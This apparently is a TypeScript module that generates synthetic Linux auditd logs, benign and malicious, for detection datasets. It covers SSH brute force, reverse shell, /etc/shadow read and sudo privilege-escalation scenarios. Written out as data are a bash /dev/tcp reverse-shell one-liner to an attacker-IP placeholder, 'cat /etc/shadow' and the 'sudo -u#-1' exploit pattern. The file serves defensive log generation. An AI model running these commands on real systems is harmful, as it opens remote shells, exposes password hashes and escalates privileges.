// Linux auditd: execve events (SYSCALL + EXECVE + CWD + PATH + PROCTITLE sharing one
// audit(ts:serial)), PAM user records from sshd/cron/sudo, file-watch hits.
// Scenarios: SSH brute force, reverse shell, /etc/shadow read, sudo abuse.
import { AuditdColumns } from '../../kusto/datasetTables.js';
import { auditExecveArgs, auditProctitle, auditRecord, auditStamp, auditUntrusted } from '../encoders/auditd.js';
import { tableEncoder } from '../encoders/table.js';
import { pidAtFirstUse } from '../pids.js';
import { attackerIp, externalIp, hostNames, internalIp, INVALID_GUESSES, LINUX_USERS, SSHD_MAX_AUTH_TRIES } from '../names.js';
import type { Rng } from '../prng.js';
import type { GenEnv, LogTypeDef, ScenarioDef } from '../types.js';

/** One record: its text body and the structured values the table row is built from. */
export interface AuditRec {
  type: string;
  body: string;
  fields: Record<string, string>;
}

export interface AuditdEvent {
  t: number;
  node: string;
  serial: number;
  records: AuditRec[];
}

type Pair = readonly [string, string | number, 'raw' | 'str'];

/** Build body and decoded field map together from ordered pairs (never parse the body back). */
function rec(type: string, pairs: readonly Pair[]): AuditRec {
  let body = '';
  const fields: Record<string, string> = {};
  for (const [k, v, kind] of pairs) {
    const s = String(v);
    body += (body ? ' ' : '') + k + '=' + (kind === 'str' ? auditUntrusted(s) : s);
    fields[k] = s;
  }
  return { type, body, fields };
}

/** PAM/user-space record: header fields, then msg='...' holding the op fields. */
function userRec(type: string, h: { pid: number; uid: number; auid: number; ses: number }, op: readonly Pair[]): AuditRec {
  const inner = rec(type, op);
  const fields: Record<string, string> = { pid: String(h.pid), uid: String(h.uid), auid: String(h.auid), ses: String(h.ses), subj: 'unconfined', ...inner.fields };
  return { type, body: `pid=${h.pid} uid=${h.uid} auid=${h.auid} ses=${h.ses} subj=unconfined msg='${inner.body}'`, fields };
}

const UNSET = 4294967295;

interface Proc {
  user: string;
  uid: number;
  /** Effective (and saved, fs) uid when the binary is setuid, as sudo's is: 0. Default uid. */
  euid?: number;
  auid: number;
  ses: number;
  pid: number;
  ppid: number;
  tty: string;
  cwd: string;
  key: string | null;
}

interface AuditEnv extends GenEnv {
  hosts: string[];
  serial: (host: string) => number;
  pid: () => number;
  /** The inode of a path on a host: one per file, as long as the dataset runs. */
  inode: (rng: Rng, node: string, path: string) => number;
  /**
   * Benign records due as the next benign events, in order: sshd's own USER_LOGIN res=failed
   * after an admin's failed password, a scanner connection's second record.
   */
  due: ((t: number) => AuditdEvent)[];
}

/** A process starting now (the next pid) under a parent that was already running: an older, lower pid. */
function forked(rng: Rng, e: AuditEnv): { pid: number; ppid: number } {
  const pid = e.pid();
  return { pid, ppid: parentOf(rng, pid) };
}

/** A running parent of `pid`: an older, lower pid. */
const parentOf = (rng: Rng, pid: number): number => Math.max(1, pid - rng.range(1, 400));

const BIN: Record<string, string> = { ls: '/usr/bin/ls', systemctl: '/usr/bin/systemctl', cat: '/usr/bin/cat', bash: '/usr/bin/bash', sh: '/usr/bin/dash', ps: '/usr/bin/ps', grep: '/usr/bin/grep', find: '/usr/bin/find', sudo: '/usr/bin/sudo', curl: '/usr/bin/curl', git: '/usr/bin/git', tar: '/usr/bin/tar', python3: '/usr/bin/python3.10' };

/** An execve event: SYSCALL, EXECVE, CWD, PATH x2, PROCTITLE. */
function execEvent(rng: Rng, env: AuditEnv, t: number, node: string, p: Proc, argv: string[]): AuditdEvent {
  const comm = (argv[0] as string).split('/').pop()!.slice(0, 15);
  const exe = BIN[comm] ?? (argv[0]!.startsWith('/') ? (argv[0] as string) : `/usr/bin/${comm}`);
  const a = (): string => rng.hex(12).replace(/^0+/, '') || '0';
  const inode = env.inode(rng, node, exe);
  return {
    t, node, serial: env.serial(node),
    records: [
      rec('SYSCALL', [
        ['arch', 'c000003e', 'raw'], ['syscall', 59, 'raw'], ['success', 'yes', 'raw'], ['exit', 0, 'raw'], ['a0', a(), 'raw'], ['a1', a(), 'raw'], ['a2', a(), 'raw'], ['a3', 0, 'raw'],
        ['items', 2, 'raw'], ['ppid', p.ppid, 'raw'], ['pid', p.pid, 'raw'], ['auid', p.auid, 'raw'], ['uid', p.uid, 'raw'], ['gid', p.uid, 'raw'], ['euid', p.euid ?? p.uid, 'raw'],
        ['suid', p.euid ?? p.uid, 'raw'], ['fsuid', p.euid ?? p.uid, 'raw'], ['egid', p.uid, 'raw'], ['sgid', p.uid, 'raw'], ['fsgid', p.uid, 'raw'], ['tty', p.tty, 'raw'], ['ses', p.ses, 'raw'],
        ['comm', comm, 'str'], ['exe', exe, 'str'], ['subj', 'unconfined', 'raw'], ['key', p.key === null ? '(null)' : p.key, p.key === null ? 'raw' : 'str'],
      ]),
      { ...rec('EXECVE', []), body: auditExecveArgs(argv), fields: Object.fromEntries([['argc', String(argv.length)], ...argv.map((v, i) => [`a${i}`, v])]) },
      rec('CWD', [['cwd', p.cwd, 'str']]),
      // A setuid binary (sudo) runs with euid 0: its file mode carries the setuid bit.
      rec('PATH', [['item', 0, 'raw'], ['name', exe, 'str'], ['inode', inode, 'raw'], ['dev', 'fd:00', 'raw'], ['mode', p.euid !== undefined && p.euid !== p.uid ? '0104755' : '0100755', 'raw'], ['ouid', 0, 'raw'], ['ogid', 0, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
      rec('PATH', [['item', 1, 'raw'], ['name', '/lib64/ld-linux-x86-64.so.2', 'str'], ['inode', env.inode(rng, node, '/lib64/ld-linux-x86-64.so.2'), 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100755', 'raw'], ['ouid', 0, 'raw'], ['ogid', 0, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
      { type: 'PROCTITLE', body: `proctitle=${auditProctitle(argv)}`, fields: { proctitle: argv.join(' ') } },
    ],
  };
}

function pamEvent(env: AuditEnv, t: number, node: string, type: string, h: { pid: number; uid: number; auid: number; ses: number }, op: string, acct: string, exe: string, addr: string, terminal: string, ok: boolean): AuditdEvent {
  const where: Pair[] = [['exe', exe, 'str'], ['hostname', addr === '' ? '?' : addr, 'raw'], ['addr', addr === '' ? '?' : addr, 'raw'], ['terminal', terminal, 'raw'], ['res', ok ? 'success' : 'failed', 'raw']];
  // sshd writes USER_LOGIN itself (OpenSSH's Linux audit support), not through PAM: no grantors.
  // A session it opens names the user by uid (the new auid) and the peer; every failed try
  // (after PAM's USER_AUTH res=failed) names the account tried and the address only
  // (hostname=?; callers pass terminal "sshd") — the record aureport counts as a failed login.
  if (type === 'USER_LOGIN') {
    const tail: Pair[] = ok ? [['id', h.auid, 'raw'], ...where] : [['acct', acct, 'str'], ['exe', exe, 'str'], ['hostname', '?', 'raw'], ['addr', addr, 'raw'], ['terminal', terminal, 'raw'], ['res', 'failed', 'raw']];
    return { t, node, serial: env.serial(node), records: [userRec(type, h, [['op', op, 'raw'], ...tail])] };
  }
  const grantors = !ok ? '?' : type === 'USER_AUTH' ? 'pam_unix' : type === 'USER_ACCT' ? 'pam_unix,pam_localuser' : type === 'CRED_ACQ' || type === 'CRED_DISP' ? 'pam_permit,pam_cap' : 'pam_loginuid,pam_env,pam_unix';
  return { t, node, serial: env.serial(node), records: [userRec(type, h, [['op', op, 'raw'], ['grantors', grantors, 'raw'], ['acct', acct, 'str'], ...where])] };
}

const BENIGN_CMDS: readonly string[][] = [
  ['ls', '-la', '/var/log'], ['systemctl', 'status', 'nginx'], ['ps', 'aux'], ['grep', '-r', 'error', '/var/log/nginx/error.log'], ['git', 'pull', '--ff-only'],
  ['tar', 'czf', '/backup/etc.tgz', '/etc'], ['cat', '/proc/meminfo'], ['python3', '/opt/app/manage.py', 'migrate'], ['sh', '-c', 'run-parts --report /etc/cron.hourly'], ['ls', 'Документы'],
];

/** An admin's sudo runs (USER_CMD cmd), as a login shell types them. */
const ADMIN_SUDO_CMDS = ['/usr/bin/systemctl restart nginx', '/usr/bin/apt-get update', '/usr/bin/journalctl -u app --since today', '/usr/bin/docker ps'] as const;
const ADMINS = LINUX_USERS.slice(0, 6);
/**
 * What sshd writes as the account of a name the host does not have (OpenSSH audit.c
 * audit_username()); auditd hex-encodes it, as it does any value with a space.
 */
const INVALID_USER = '(invalid user)';

/**
 * The session number (`ses=`) of an admin's login: attacks draw theirs from the same range,
 * so the number alone never marks one.
 */
const sessionNumber = (rng: Rng): number => rng.range(1, 40);

/** What a PHP application runs through a shell (mail(), an image library, a git-based deploy hook). */
const WEB_APP_CMDS = ['/usr/sbin/sendmail -t -i', 'convert /var/www/html/uploads/tmp/img.jpg -resize 800x600 /var/www/html/uploads/img_800.jpg', 'git -C /var/www/html rev-parse HEAD'] as const;

const CRON_PAM = [['USER_ACCT', 'PAM:accounting'], ['CRED_ACQ', 'PAM:setcred'], ['USER_START', 'PAM:session_open'], ['USER_END', 'PAM:session_close'], ['CRED_DISP', 'PAM:setcred']] as const;

const BENIGN: readonly (readonly [(rng: Rng, e: AuditEnv, t: number) => AuditdEvent, number])[] = [
  [(rng, e, t) => {
    const user = rng.pick(LINUX_USERS.slice(0, 6));
    const uid = 1000 + LINUX_USERS.indexOf(user as (typeof LINUX_USERS)[number]);
    return execEvent(rng, e, t, rng.pick(e.hosts), { user, uid, auid: uid, ses: sessionNumber(rng), ...forked(rng, e), tty: `pts${rng.int(3)}`, cwd: `/home/${user}`, key: 'exec' }, [...rng.pick(BENIGN_CMDS)]);
  }, 5],
  [(rng, e, t) => execEvent(rng, e, t, rng.pick(e.hosts), { user: 'root', uid: 0, auid: UNSET, ses: UNSET, ...forked(rng, e), tty: '(none)', cwd: '/', key: 'exec' }, ['sh', '-c', rng.pick(['run-parts --report /etc/cron.hourly', '/usr/lib/php/sessionclean', 'logrotate /etc/logrotate.conf'])]), 3],
  // The web application's own children (mail, image resizing): www-data execs are everyday too.
  [(rng, e, t) => execEvent(rng, e, t, rng.pick(e.hosts), { user: 'www-data', uid: 33, auid: UNSET, ses: UNSET, ...forked(rng, e), tty: '(none)', cwd: '/var/www/html', key: 'exec' }, ['sh', '-c', rng.pick(WEB_APP_CMDS)]), 0.5],
  [(rng, e, t) => {
    // A cron session walks these PAM records; each is its own audit event.
    const [type, op] = rng.pick(CRON_PAM);
    return pamEvent(e, t, rng.pick(e.hosts), type, { pid: e.pid(), uid: 0, auid: type === 'USER_ACCT' ? UNSET : 0, ses: type === 'USER_ACCT' ? UNSET : rng.range(100, 900) }, op, 'root', '/usr/sbin/cron', '', 'cron', true);
  }, 4],
  [(rng, e, t) => {
    const ip = internalIp(rng);
    return pamEvent(e, t, rng.pick(e.hosts), 'USER_ACCT', { pid: e.pid(), uid: 0, auid: UNSET, ses: UNSET }, 'PAM:accounting', rng.pick(LINUX_USERS.slice(0, 6)), '/usr/sbin/sshd', ip, 'ssh', true);
  }, 2],
  // Admins' own SSH password logins and sudo runs write USER_AUTH, USER_LOGIN and USER_CMD
  // every day (now and then a mistyped password, res=failed): attacks are not the only source.
  [(rng, e, t) => {
    const k = rng.int(ADMINS.length);
    const ip = internalIp(rng);
    const node = rng.pick(e.hosts);
    if (rng.chance(0.5)) {
      const h = { pid: e.pid(), uid: 0, auid: UNSET, ses: UNSET };
      const ok = !rng.chance(0.05);
      if (!ok) e.due.push((t2) => pamEvent(e, t2, node, 'USER_LOGIN', h, 'login', ADMINS[k]!, '/usr/sbin/sshd', ip, 'sshd', false));
      return pamEvent(e, t, node, 'USER_AUTH', h, 'PAM:authentication', ADMINS[k]!, '/usr/sbin/sshd', ip, 'ssh', ok);
    }
    return pamEvent(e, t, node, 'USER_LOGIN', { pid: e.pid(), uid: 0, auid: 1000 + k, ses: sessionNumber(rng) }, 'login', ADMINS[k]!, '/usr/sbin/sshd', ip, `/dev/pts/${rng.int(4)}`, true);
  }, 0.6],
  // The internet's guesses at an exposed sshd, as syslog's scanners: a name the host lacks,
  // audited as "(invalid user)" twice (sshd's account lookup, then the first authentication
  // request), and the scanner hangs up before any password. Attacks are not the only source.
  [(rng, e, t) => {
    const node = rng.pick(e.hosts);
    const ip = externalIp(rng, e);
    const h = { pid: e.pid(), uid: 0, auid: UNSET, ses: UNSET };
    const invalid = (t2: number): AuditdEvent => pamEvent(e, t2, node, 'USER_LOGIN', h, 'login', INVALID_USER, '/usr/sbin/sshd', ip, 'sshd', false);
    e.due.push(invalid);
    return invalid(t);
  }, 0.02],
  [(rng, e, t) => {
    const k = rng.int(ADMINS.length);
    const user = ADMINS[k]!;
    const h = { pid: e.pid(), uid: 1000 + k, auid: 1000 + k, ses: sessionNumber(rng) };
    const node = rng.pick(e.hosts);
    const tty = rng.int(4);
    const r = rng.float();
    // The run starts with sudo's exec (setuid root, so euid 0), as the attack's does.
    if (r < 0.3) return execEvent(rng, e, t, node, { user, uid: h.uid, euid: 0, auid: h.auid, ses: h.ses, pid: h.pid, ppid: parentOf(rng, h.pid), tty: `pts${tty}`, cwd: `/home/${user}`, key: 'exec' }, ['sudo', ...rng.pick(ADMIN_SUDO_CMDS).split(' ')]);
    if (r < 0.65) return pamEvent(e, t, node, 'USER_AUTH', h, 'PAM:authentication', user, '/usr/bin/sudo', '', `/dev/pts/${tty}`, !rng.chance(0.05));
    return { t, node, serial: e.serial(node), records: [userRec('USER_CMD', h, [['cwd', `/home/${user}`, 'str'], ['cmd', rng.pick(ADMIN_SUDO_CMDS), 'str'], ['exe', '/usr/bin/sudo', 'str'], ['terminal', `pts/${tty}`, 'raw'], ['res', 'success', 'raw']])] };
  }, 0.7],
];

const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
  {
    name: 'ssh-brute-force',
    technique: 'T1110.001',
    tactic: 'Credential Access',
    description: "One internet address guesses SSH passwords (one connection per invalid user, then several tries a connection as root; each try PAM's failed USER_AUTH and sshd's failed USER_LOGIN) and succeeds as root",
    steps(rng, env) {
      const e = env as AuditEnv;
      const node = rng.pick(e.hosts);
      const ip = attackerIp(rng, env);
      const steps: ((t: number) => AuditdEvent)[] = [];
      // One sshd pid a connection. Each password try: PAM's USER_AUTH res=failed (the name as
      // typed), then sshd's own USER_LOGIN res=failed. For a name the host lacks sshd writes
      // "(invalid user)", and audits that twice before the first try (its monitor's account
      // lookup, then the connection's first authentication request). As in the syslog
      // scenario: one connection per guessed name, then root, several tries a connection.
      const connection = (acct: string, tries: number): void => {
        const pid = pidAtFirstUse(e.pid);
        const h = (): { pid: number; uid: number; auid: number; ses: number } => ({ pid: pid(), uid: 0, auid: UNSET, ses: UNSET });
        const sshdAcct = acct === 'root' ? acct : INVALID_USER;
        const sshdFailed = (t: number): AuditdEvent => pamEvent(e, t, node, 'USER_LOGIN', h(), 'login', sshdAcct, '/usr/sbin/sshd', ip, 'sshd', false);
        if (sshdAcct === INVALID_USER) steps.push(sshdFailed, sshdFailed);
        for (let i = 0; i < tries; i++) steps.push((t) => pamEvent(e, t, node, 'USER_AUTH', h(), 'PAM:authentication', acct, '/usr/sbin/sshd', ip, 'ssh', false), sshdFailed);
      };
      const invalid = rng.range(8, 14);
      for (let i = 0; i < invalid; i++) connection(rng.pick(INVALID_GUESSES), 1);
      const rootConnections = rng.range(2, 3);
      for (let c = 0; c < rootConnections; c++) connection('root', c === 0 ? SSHD_MAX_AUTH_TRIES : rng.range(2, SSHD_MAX_AUTH_TRIES));
      const pid = pidAtFirstUse(e.pid);
      // The session number of a login, as the benign admins' logins get theirs.
      const ses = sessionNumber(rng);
      steps.push((t) => pamEvent(e, t, node, 'USER_AUTH', { pid: pid(), uid: 0, auid: UNSET, ses: UNSET }, 'PAM:authentication', 'root', '/usr/sbin/sshd', ip, 'ssh', true));
      steps.push((t) => pamEvent(e, t, node, 'USER_LOGIN', { pid: pid(), uid: 0, auid: 0, ses }, 'login', 'root', '/usr/sbin/sshd', ip, '/dev/pts/3', true));
      return steps;
    },
  },
  {
    name: 'reverse-shell',
    technique: 'T1059.004',
    tactic: 'Execution',
    description: 'The web server user spawns a shell whose stdin/stdout go to a TCP connection to the internet',
    steps(rng, env) {
      const e = env as AuditEnv;
      const node = rng.pick(e.hosts);
      const ip = attackerIp(rng, env);
      // Each process of the chain forks at its step, the child of the one before; the first
      // is the web server's (an older pid).
      const chain = [
        ['sh', '-c', `bash -c "bash -i >& /dev/tcp/${ip}/4444 0>&1"`],
        ['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`],
        ['bash', '-i'],
        ['python3', '-c', 'import pty; pty.spawn("/bin/bash")'],
      ];
      const pids = chain.map(() => pidAtFirstUse(e.pid));
      // Its parent is drawn when it forks, as benign parents are (drawn at planning, it was one
      // of the dataset's first pids, tens of thousands below its child).
      const web = pidAtFirstUse(() => parentOf(rng, pids[0]!()));
      return chain.map((argv, k) => (t: number) =>
        execEvent(rng, e, t, node, { user: 'www-data', uid: 33, auid: UNSET, ses: UNSET, pid: pids[k]!(), ppid: k === 0 ? web() : pids[k - 1]!(), tty: '(none)', cwd: '/var/www/html', key: 'exec' }, argv),
      );
    },
  },
  {
    name: 'shadow-read',
    technique: 'T1003.008',
    tactic: 'Credential Access',
    description: 'A user reads /etc/shadow; the file watch (-w /etc/shadow -p r -k shadow) records the openat',
    steps(rng, env) {
      const e = env as AuditEnv;
      const node = rng.pick(e.hosts);
      // One of the admins, root by now (auid keeps the login's uid, ses its session); cat
      // forks when its exec is written, under the root shell (an older pid).
      const k = rng.int(ADMINS.length);
      const cat = pidAtFirstUse(e.pid);
      const shell = pidAtFirstUse(() => parentOf(rng, cat()));
      const p: Omit<Proc, 'pid' | 'ppid'> = { user: 'root', uid: 0, auid: 1000 + k, ses: sessionNumber(rng), tty: `pts${rng.int(4)}`, cwd: `/home/${ADMINS[k]!}`, key: 'exec' };
      return [
        (t) => execEvent(rng, e, t, node, { ...p, pid: cat(), ppid: shell() }, ['cat', '/etc/shadow']),
        (t) => ({
          t, node, serial: e.serial(node),
          records: [
            rec('SYSCALL', [['arch', 'c000003e', 'raw'], ['syscall', 257, 'raw'], ['success', 'yes', 'raw'], ['exit', 3, 'raw'], ['a0', 'ffffff9c', 'raw'], ['a1', '7ffd5e1c8f2a', 'raw'], ['a2', 0, 'raw'], ['a3', 0, 'raw'], ['items', 1, 'raw'], ['ppid', shell(), 'raw'], ['pid', cat(), 'raw'], ['auid', p.auid, 'raw'], ['uid', 0, 'raw'], ['gid', 0, 'raw'], ['euid', 0, 'raw'], ['suid', 0, 'raw'], ['fsuid', 0, 'raw'], ['egid', 0, 'raw'], ['sgid', 0, 'raw'], ['fsgid', 0, 'raw'], ['tty', p.tty, 'raw'], ['ses', p.ses, 'raw'], ['comm', 'cat', 'str'], ['exe', '/usr/bin/cat', 'str'], ['subj', 'unconfined', 'raw'], ['key', 'shadow', 'str']]),
            rec('CWD', [['cwd', p.cwd, 'str']]),
            rec('PATH', [['item', 0, 'raw'], ['name', '/etc/shadow', 'str'], ['inode', e.inode(rng, node, '/etc/shadow'), 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100640', 'raw'], ['ouid', 0, 'raw'], ['ogid', 42, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
            { type: 'PROCTITLE', body: `proctitle=${auditProctitle(['cat', '/etc/shadow'])}`, fields: { proctitle: 'cat /etc/shadow' } },
          ],
        }),
      ];
    },
  },
  {
    name: 'sudo-abuse',
    technique: 'T1548.003',
    tactic: 'Privilege Escalation',
    description: 'A user runs sudo -u#-1 /bin/bash (CVE-2019-14287 pattern): two wrong passwords, the third right, then a root shell',
    steps(rng, env) {
      const e = env as AuditEnv;
      const node = rng.pick(e.hosts);
      const uid = 1004;
      // sudo is exec'd first (setuid root: euid 0) from erin's shell (an older pid), then asks
      // for the password up to three times from that process; its root shell forks last.
      const sudo = pidAtFirstUse(e.pid);
      const shell = pidAtFirstUse(() => parentOf(rng, sudo()));
      const ses = sessionNumber(rng);
      const h = () => ({ pid: sudo(), uid, auid: uid, ses });
      const auth = (ok: boolean) => (t: number) => pamEvent(e, t, node, 'USER_AUTH', h(), 'PAM:authentication', 'erin', '/usr/bin/sudo', '', '/dev/pts/2', ok);
      return [
        (t) => execEvent(rng, e, t, node, { user: 'erin', uid, euid: 0, auid: uid, ses, pid: sudo(), ppid: shell(), tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['sudo', '-u#-1', '/bin/bash']),
        auth(false),
        auth(false),
        auth(true),
        (t) => ({ t, node, serial: e.serial(node), records: [userRec('USER_CMD', h(), [['cwd', '/home/erin', 'str'], ['cmd', '/bin/bash', 'str'], ['exe', '/usr/bin/sudo', 'str'], ['terminal', 'pts/2', 'raw'], ['res', 'success', 'raw']])] }),
        // sudo execs the command as given, argv[0] included.
        (t) => execEvent(rng, e, t, node, { user: 'root', uid: 0, auid: uid, ses, pid: e.pid(), ppid: sudo(), tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['/bin/bash']),
      ];
    },
  },
];

const num = (v: string | undefined): number | null => (v === undefined || v === '' || !/^-?\d+$/.test(v) ? null : Number(v));
const str = (v: string | undefined): string => (v === undefined || v === '(null)' ? '' : v);

export const auditd: LogTypeDef<AuditdEvent> = {
  name: 'auditd',
  description: 'Linux audit.log records (kernel execve events and PAM user records), one event = records sharing audit(ts:serial)',
  table: { name: 'AuditdLogs', columns: AuditdColumns },
  formats: ['raw', 'csv', 'jsonl'],
  defaultFormat: 'raw',
  scenarios: SCENARIOS,
  env(rng, req): AuditEnv {
    const hosts = hostNames(rng, 4);
    const serials = new Map(hosts.map((h) => [h, rng.range(1000, 900_000)]));
    let pid = rng.range(2000, 40000);
    const inodes = new Map<string, Map<string, number>>();
    return {
      req, rng, hosts,
      serial: (h) => {
        const s = (serials.get(h) ?? 1) + 1;
        serials.set(h, s);
        return s;
      },
      pid: () => (pid = pid >= 4_194_000 ? 300 : pid + 1 + (pid % 5)),
      inode: (r, node, path) => {
        // Two levels, no key string built per exec.
        let files = inodes.get(node);
        if (!files) inodes.set(node, (files = new Map()));
        let n = files.get(path);
        if (n === undefined) files.set(path, (n = r.range(100_000, 4_000_000)));
        return n;
      },
      due: [],
    };
  },
  benign(rng, env, t) {
    const e = env as AuditEnv;
    const due = e.due.shift();
    return due !== undefined ? due(t) : rng.weighted(BENIGN)(rng, e, t);
  },
  // audit(1704067200.123:42): milliseconds.
  timeUnitUs: () => 1000,
  records: (e) => e.records.length,
  encoder(format, _req, tf) {
    return tableEncoder<AuditdEvent>(format, {
      columns: AuditdColumns,
      raw: (e) => {
        const stamp = auditStamp(Math.floor(e.t / 1000), e.serial);
        let out = '';
        for (const r of e.records) out += auditRecord(e.node, r.type, stamp, r.body) + '\n';
        return out;
      },
      rows: (e, id) => {
        const time = tf.iso(Math.floor(e.t / 1000) * 1000, 3);
        return e.records.map((r, k) => {
          const f = r.fields;
          const cmd = r.type === 'EXECVE' ? Object.keys(f).filter((x) => /^a\d+$/.test(x)).map((x) => f[x]).join(' ') : r.type === 'PROCTITLE' ? (f.proctitle ?? '') : r.type === 'USER_CMD' ? (f.cmd ?? '') : '';
          return [
            time, id + k, e.node, r.type, e.serial, num(f.syscall), f.success ?? f.res ?? '', num(f.exit), num(f.pid), num(f.ppid), num(f.uid), num(f.auid), num(f.ses),
            str(f.comm), str(f.exe), r.type === 'SYSCALL' ? str(f.key) : '', str(f.acct), f.addr && f.addr !== '?' ? f.addr : '', cmd, f,
          ];
        });
      },
    });
  },
};
